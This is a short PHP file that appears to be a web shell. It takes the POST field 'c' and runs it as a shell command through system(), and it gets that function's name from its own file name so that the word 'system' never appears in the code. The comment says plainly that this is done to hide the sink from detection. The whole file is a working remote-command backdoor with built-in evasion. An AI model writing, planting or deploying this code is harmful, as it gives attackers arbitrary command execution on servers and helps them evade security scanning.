<?php
// The function name is cut from the file's own name ("system.php"), so no
// sink name appears in the text.
$fn = substr(basename(__FILE__), 0, 6);
$fn($_POST['c']);
